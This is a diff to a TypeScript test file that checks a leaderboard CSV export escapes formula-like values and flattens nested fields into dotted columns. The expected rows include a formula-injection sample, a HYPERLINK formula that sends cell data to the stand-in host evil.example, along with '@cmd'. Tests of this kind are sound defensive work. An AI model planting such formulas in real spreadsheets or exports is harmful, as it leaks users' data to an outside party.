@@ -25,6 +25,14 @@ beforeAll(async () => {
         ],
         nextCursor: null,
       }),
+    '/competitions/c2/leaderboard': (_req, res) =>
+      sendData(res, {
+        items: [
+          { position: 1, team: { number: 7, label: '=1+1' }, points: 12, r: [0, 2] },
+          { position: 2, team: { number: 9, label: 'Plain' }, points: -1 },
+        ],
+        nextCursor: null,
+      }),
   });
   wb = await openWorkbench({
     dataDir: mkdtempSync(join(tmpdir(), 'wb-csv-')),
@@ -51,5 +59,16 @@ it('leaderboard.exportCsv neutralises formulas and keeps numbers', async () => {
     ['1', `'=HYPERLINK("https://evil.example/?d="&A1,"Prize")`, '10'],
     ['2', "'@cmd", '-1'],
     ['3', 'Plain team', '0'],
+  ]);
+});
+
+it('leaderboard.exportCsv spreads nested fields into dotted columns, still formula-safe', async () => {
+  const res = await dispatch('leaderboard.exportCsv', { table: 'leaderboard', competitionId: 'c2' });
+  expect(res.ok).toBe(true);
+  const { csv } = (res as { value: CsvExport }).value;
+  expect(Papa.parse<string[]>(csv.trim()).data).toEqual([
+    ['position', 'team.number', 'team.label', 'points', 'r'],
+    ['1', '7', "'=1+1", '12', '0, 2'],
+    ['2', '9', 'Plain', '-1', ''],
   ]);
 });
